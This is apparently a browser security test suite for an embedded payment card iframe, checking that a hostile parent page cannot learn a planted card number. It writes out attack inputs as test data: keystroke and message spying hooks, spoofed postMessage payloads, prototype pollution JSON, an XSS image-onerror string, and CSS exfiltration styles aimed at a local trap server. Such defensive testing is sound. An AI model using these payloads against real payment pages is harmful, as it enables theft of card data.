// What a hostile page could try: it learns no digit, and reaches nothing.
import http from 'node:http';

const PAN = '4000056655665556', CVC = '987';

/** The parts of the planted card that a text holds. */
function leaks(text) {
  const plain = text.replace(/[\s-]/g, ''), found = [];
  for (let n = 0; n + 6 <= PAN.length; n++) if (plain.includes(PAN.slice(n, n + 6))) found.push(PAN.slice(n, n + 6));
  if (new RegExp(`(?<![\\w.])${CVC}(?![\\w.])`).test(text)) found.push('cvc'); // not within an id or a time
  return found;
}

/** Records everything that a page can see of its ports, windows, timings and keys. */
function spy() {
  if (location.hostname !== 'localhost') return;
  const seen = (window.seen = []);
  // Times and sizes are numbers that may look like a code by chance; a code is always a text.
  window.texts = (_, v) => (typeof v === 'number' ? undefined : v);
  const keep = (what, data) => { try { seen.push(`${what} ${JSON.stringify(data, what === 'perf' ? texts : undefined)}`); } catch { seen.push(what); } };
  const Channel = window.MessageChannel;
  window.MessageChannel = function () {
    const c = new Channel();
    c.port1.addEventListener('message', (e) => keep('port', e.data));
    return c;
  };
  addEventListener('message', (e) => keep('window', e.data));
  addEventListener('error', (e) => keep('error', [e.message, e.filename]));
  addEventListener('unhandledrejection', (e) => keep('rejection', String(e.reason)));
  for (const t of ['keydown', 'keyup', 'input', 'beforeinput', 'paste', 'copy', 'selectionchange', 'dragstart', 'drop', 'compositionupdate']) addEventListener(t, (e) => keep(t, [e.key, e.data, e.target?.value]), true);
  addEventListener('securitypolicyviolation', (e) => keep('csp', [e.blockedURI, e.sample]));
  new PerformanceObserver((l) => l.getEntries().forEach((e) => keep('perf', e.toJSON())))
    .observe({ entryTypes: ['resource', 'event', 'longtask', 'layout-shift', 'element', 'mark', 'measure', 'navigation', 'paint', 'first-input', 'largest-contentful-paint'] });
}

const everything = (page) => page.evaluate(async () => JSON.stringify([
  window.seen, window.log, window.token, location.href, history.state, history.length, document.title, window.name, document.referrer, document.cookie, { ...localStorage }, { ...sessionStorage },
  document.documentElement.outerHTML, getSelection().toString(), JSON.stringify(performance.getEntries(), window.texts), [...document.querySelectorAll('iframe')].map((f) => [f.src, f.name, f.title, f.style.cssText]),
  await indexedDB.databases(), await caches.keys().catch(() => 0),
]));

/** Makes the frame count messages to it, behind its own listeners. */
const counted = (frame) => frame.evaluate(() => { window.arrived = 0; addEventListener('message', () => window.arrived++); });

export default async function ({ world, launch, check, open, shop, field, frameOf, holds, typeCard }) {
  const caught = [];
  const trap = http.createServer((q, s) => { caught.push(q.url); s.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' }).end('<!doctype html><title>Trap</title>'); });
  await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const TRAP = `http://127.0.0.1:${trap.address().port}`;
  const browser = await launch();
  try {
    for (const split of [false, true]) {
      const tag = split ? 'split' : 'card', page = await shop(browser, `${world.loose}/?mode=${tag}`, { init: spy });
      const entries = await page.evaluate(() => history.length);
      await typeCard(page, split, PAN, '1230', CVC);
      const told = await page.evaluate(() => seen.filter((s) => s.startsWith('port') && s.includes('"change"')).length);
      check(`${tag}: a card of 23 keystrokes makes few changes`, told <= 12, told);
      const reads = await page.evaluate(() => [...document.querySelectorAll('iframe')].flatMap((f) => [
        () => f.contentDocument, () => f.contentWindow.document.body.innerHTML, () => f.contentWindow.eval('1'), () => f.contentWindow.location.href, () => f.contentWindow.history.length, () => f.getSVGDocument(),
      ].map((get) => { try { return String(get()); } catch (e) { return e.name; } })));
      check(`${tag}: the parent reads nothing of a frame`, reads.every((r) => r === 'null' || r === 'SecurityError'), reads);
      await page.locator('.pay').click();
      await page.waitForFunction(() => window.token);
      const all = (await everything(page)) + JSON.stringify(page.said) + page.wire.map((r) => r.url() + (r.headers().referer ?? '') + (r.url().startsWith(world.vault) ? '' : r.postData() ?? '')).join();
      check(`${tag}: the planted card is in nothing that the parent sees`, leaks(all).length === 0, leaks(all));
      check(`${tag}: no session key in the page`, !all.includes('_sess_'));
      check(`${tag}: the card did go to the vault`, page.wire.some((r) => r.url() === `${world.vault}/tokens` && r.postData()?.includes(PAN)));
      check(`${tag}: frames add no entry to the history`, (await page.evaluate(() => history.length)) === entries);

      // Spoofed messages: from the parent, and from a frame of another origin.
      const victim = frameOf(page, split ? 'cvc' : 'card');
      await counted(victim);
      const messages = [
        { tokenkeep: 'ask', group: await page.evaluate(() => elements.group), id: 'p', key: world.key },
        { tokenkeep: 'init', version: 1, group: 'x', options: { texts: { number: 'OWNED', cvc: 'OWNED' } } },
        { tokenkeep: 'answer', group: await page.evaluate(() => elements.group), id: 'p', parts: [{ name: 'cvc', value: '1' }] },
      ];
      const shoot = (all) => {
        window.got = [];
        for (let i = 0; i < top.frames.length; i++) {
          for (const m of all) {
            const c = new MessageChannel();
            c.port1.onmessage = (e) => window.got.push(e.data);
            if (top.frames[i] !== window) top.frames[i].postMessage(m, '*', [c.port2]);
          }
        }
      };
      await page.evaluate(shoot, messages);
      await victim.waitForFunction((n) => window.arrived >= n, messages.length);
      for (const sandbox of ['', 'allow-scripts']) {
        const handle = await page.evaluateHandle(([src, s]) => { const f = document.createElement('iframe'); if (s) f.sandbox = s; f.src = src; document.body.append(f); return f; }, [TRAP, sandbox]);
        const evil = await handle.contentFrame();
        await evil.waitForFunction(() => document.title === 'Trap');
        const seen = await victim.evaluate(() => window.arrived);
        await evil.evaluate(shoot, messages);
        await victim.waitForFunction((n) => window.arrived >= n, seen + messages.length);
        check(`${tag}: spoofed messages of a frame ${sandbox || 'of another origin'} get nothing`, (await evil.evaluate(() => window.got.length)) === 0);
      }
      check(`${tag}: spoofed messages of the parent get nothing`, (await page.evaluate(() => window.got.length)) === 0);
      check(`${tag}: and change nothing`, !(await victim.evaluate(() => document.body.textContent)).includes('OWNED'));
      check(`${tag}: still nothing planted in the page`, leaks(await everything(page)).length === 0);
      await page.context().close();
    }
    { // A page that makes the frame itself.
      const page = await shop(browser, `${world.loose}/?mode=none`);
      await page.evaluate(async ([key, vault]) => {
        const f = document.createElement('iframe');
        f.src = `${vault}/elements/v1/${key}/card`;
        const loaded = new Promise((resolve) => { f.onload = resolve; });
        document.body.append(f);
        await loaded;
        const { port1, port2 } = new MessageChannel();
        window.evil = { port1, got: [] };
        port1.onmessage = (e) => evil.got.push(e.data);
        const bad = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"texts":{"__proto__":"x","number":"<img src=x onerror=alert(1)>"},"appearance":{"__proto__":{"polluted":1},"variables":{"__proto__":"red","constructor":"red","toString":"red"},"rules":{"__proto__":{"color":"red"},"constructor":{"color":"red"},"input":{"__proto__":"red"}}}}');
        f.contentWindow.postMessage({ tokenkeep: 'init', version: 1, group: 'g', options: bad }, vault, [port2]);
        for (const m of [null, 1, 'x', [], { type: '__proto__' }, { type: 'constructor' }, { type: 'focus', field: '__proto__' }, { type: 'tokenize', id: { toString: 1 }, fields: '__proto__' },
          { type: 'options', options: { accept: [{}, '__proto__'], fonts: [{ family: 'x', data: new ArrayBuffer(8) }, { family: 'y', data: 'url(http://127.0.0.1:1/font)' }] } }, { type: 'reveal', id: '1', token: 't' }]) port1.postMessage(m);
      }, [world.key, world.vault]);
      const settled = (marker) => page.evaluate((m) => evil.port1.postMessage({ type: 'tokenize', id: m, fields: [] }), marker).then(() => page.waitForFunction((m) => evil.got.some((x) => x.type === 'done' && x.id === m), marker));
      await settled('first');
      const frame = frameOf(page);
      check('prototype pollution does nothing', await frame.evaluate(() => ({}).polluted === undefined && Object.keys(Object.prototype).length === 0));
      check('markup in texts stays text', await frame.evaluate(() => document.querySelectorAll('img').length === 0 && document.querySelector('label').textContent.startsWith('<img')));
      check('a page of fields cannot reveal', !JSON.stringify(await page.evaluate(() => evil.got)).includes('"value"'));
      const evil = {
        variables: { colorText: `red;background:url(${TRAP}/a)`, fontFamily: `x;src:url(${TRAP}/b)`, colorBackground: `url(${TRAP}/c)`, colorPrimary: 'attr(value)', colorBorder: 'var(--x)', colorDanger: 'r\\65 d', paddingX: '900px', fontSize: '400px', paddingY: '900PX', gap: '9e2px', labelSize: 'calc(90px * 90)', borderRadius: 'calc(9px / 0.01)', borderWidth: '9in' },
        rules: {
          input: { backgroundImage: `url(${TRAP}/d)`, background: `url(${TRAP}/e)`, color: `image-set("${TRAP}/f" 1x)`, cursor: `url(${TRAP}/g)`, borderImage: `url(${TRAP}/h)`, content: 'attr(value)', fontFamily: `"}@font-face{font-family:x;src:url(${TRAP}/i);unicode-range:U+34}`, position: 'fixed', animation: 'x 1s', filter: `url(${TRAP}/j)`, maskImage: `url(${TRAP}/k)`, listStyleImage: `url(${TRAP}/l)`, color2: 'red', opacity: '0', backgroundColor: 'u\\rl(x)', boxShadow: '0 0 0 500px red', letterSpacing: '99em' },
          'input[value^="4"]': { color: 'red' }, 'input:hover, body': { color: 'red' },
        },
      };
      await page.evaluate((appearance) => { evil.got.length = 0; evil.port1.postMessage({ type: 'options', options: { appearance } }); }, evil);
      await field(page).locator('#tk-number').click();
      await page.keyboard.type(PAN);
      await settled('second');
      const refused = await page.evaluate(() => evil.got.filter((m) => m.type === 'refused').flatMap((m) => m.what));
      const total = Object.keys(evil.variables).length + Object.values(evil.rules).reduce((n, r) => n + Object.keys(r).length, 0);
      check(`${total} hostile styles are refused`, refused.length === total && total === 32, refused);
      await page.evaluate(() => { evil.got.length = 0; evil.port1.postMessage({ type: 'options', options: { appearance: { variables: { colorPrimary: 'rgb(200 0 0 / 50%)', fontFamily: '"Inter", sans-serif', borderRadius: '4px', colorText: '#1e3a8a', labelWeight: '700', gap: 'clamp(4px, 1vw, 1REM)' }, rules: { 'input:focus': { borderColor: 'oklch(60% 0.2 30)', boxShadow: '0 0 0 2px rgba(0,0,0,.2)' }, input: { letterSpacing: '0.02em' } } } } }); });
      await settled('third');
      check('honest styles are applied', await page.evaluate(() => !evil.got.some((m) => m.type === 'refused')) && await frame.evaluate(() => getComputedStyle(document.querySelector('input')).borderRadius === '4px'));

      // Code inside the frame, if there ever was any, reaches nothing.
      const inside = await frame.evaluate(async (T) => {
        const r = {};
        document.body.style.backgroundImage = `url(${T}/in-img)`;
        r.font = await new FontFace('z', `url(${T}/in-font)`).load().then(() => 'loaded', () => 'refused');
        r.fetch = await fetch(`${T}/in-fetch`).then(() => 'sent', () => 'refused');
        r.proxy = await fetch('/proxy/x').then(() => 'sent', () => 'refused');
        r.script = await new Promise((done) => { try { const s = document.createElement('script'); s.onload = () => done('ran'); s.onerror = () => done('refused'); s.src = '/elements/v1/elements.js'; document.body.append(s); } catch { done('refused'); } });
        try { document.body.innerHTML += '<b>x</b>'; r.html = 'set'; } catch { r.html = 'refused'; }
        return r;
      }, TRAP);
      check('code in the frame reaches nothing', Object.values(inside).every((v) => v === 'refused'), inside);
      check('no request to another origin', caught.every((u) => u === '/' || u === '/favicon.ico'), caught);

      // The number frame of another application gets nothing from the fields of this one.
      await page.context().close();
    }
    { // Who may embed the fields.
      const page = await open(browser, `${world.stranger}/`);
      await page.waitForFunction(() => document.querySelector('iframe'));
      while (!page.said.some((s) => /frame-ancestors/.test(s))) await page.waitForEvent('console');
      check('an origin that is not listed is blocked', page.said.some((s) => /frame-ancestors/.test(s)));
      await page.context().close();
      const strict = await open(browser, `${world.shop}/?mode=none`);
      await strict.evaluate(([vault, other]) => { const f = document.createElement('iframe'); f.src = `${vault}/elements/v1/${other}/card`; document.body.append(f); }, [world.vault, world.other]);
      while (!strict.said.some((s) => /frame-src/.test(s))) await strict.waitForEvent('console');
      check('frame-src with the key in its path stops frames of another key', true);
      await strict.context().close();
    }
    { // Sessions of others, and what the page may set of a token.
      const page = await shop(browser, `${world.loose}/`);
      await typeCard(page, false, PAN, '1230', CVC);
      const foreign = world.key.replace('_pub_', '_sess_').replace(/_([^_]+)$/, (_, t) => `_${'Z'.repeat(22)}${t.slice(22)}`);
      page.wire.length = 0;
      check('a session of another tenant is refused in the frame', (await page.evaluate((session) => elements.tokenize({ session }).catch((e) => e.code), foreign)) === 'foreign_session' && !page.wire.some((r) => r.url().includes('/tokens')));
      check('an authorization that fails is the error of the page', (await page.evaluate(() => elements.tokenize({ authorize: () => Promise.reject(new Error('no')) }).catch((e) => e.message))) === 'no');
      check('an authorization that was none', (await page.evaluate(() => elements.tokenize({ authorize: async () => {} }).catch((e) => e.code))) === 'not_allowed');
      page.wire.length = 0;
      await page.evaluate(() => {
        const send = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (m, ...rest) {
          if (m.type === 'tokenize') Object.assign(m, { mask: '{{ data.number }}', id2: 'x', search_indexes: ['{{ data.number }}'], metadata: JSON.parse('{"a":"b","__proto__":"x","n":5}') });
          return send.call(this, m, ...rest);
        };
        return elements.tokenize({ authorize });
      });
      const sent = JSON.parse(page.wire.find((r) => r.url() === `${world.vault}/tokens`).postData());
      check('the page sets metadata and container only', Object.keys(sent).join() === 'type,data,metadata' && JSON.stringify(sent.metadata) === '{"a":"b"}', Object.keys(sent));
      await page.context().close();
    }
    { // A page that stores the number while it grows.
      const page = await shop(browser, `${world.loose}/`);
      await typeCard(page, false, '4242424242424242', '1230', '123');
      const last4 = () => page.evaluate(() => elements.tokenize({ authorize }).then((t) => t.last4, (e) => e.code));
      const told = [await last4()];
      await field(page).locator('#tk-number').click();
      await page.keyboard.press('End');
      await page.keyboard.type('428');
      await holds(page, 'card', 'tk-number', '4242 4242 4242 4242 428');
      told.push(await last4(), await last4());
      await page.keyboard.press('Backspace');
      await page.keyboard.press('Backspace');
      await page.keyboard.press('Backspace');
      told.push(await last4());
      check('the page learns four digits of a number that grows', told.join() === '4242,,,4242', told);
      await page.context().close();
    }
    for (const coep of ['require-corp', 'credentialless']) {
      const page = await shop(browser, `${world.loose}/?coep=${coep}`);
      await typeCard(page, false, '4242424242424242', '1230', '123');
      await page.locator('.pay').click();
      await page.waitForFunction(() => document.querySelector('output').textContent);
      check(`in a page with COEP ${coep}`, await page.evaluate(() => window.token?.last4 === '4242'), page.said);
      await page.context().close();
    }
    { // Leaving the page and coming back.
      const page = await shop(browser, `${world.shop}/`);
      await typeCard(page, false, PAN, '1230', CVC);
      await page.goto(`${world.shop}/blank`);
      await page.goBack();
      await page.evaluate(() => parts.card.ready());
      check('back: the fields are empty', (await frameOf(page).evaluate(() => [...document.querySelectorAll('input')].map((i) => i.value).join(''))) === '');
      await page.context().close();
    }
  } finally {
    await browser.close();
    trap.close();
    trap.closeAllConnections();
  }
}
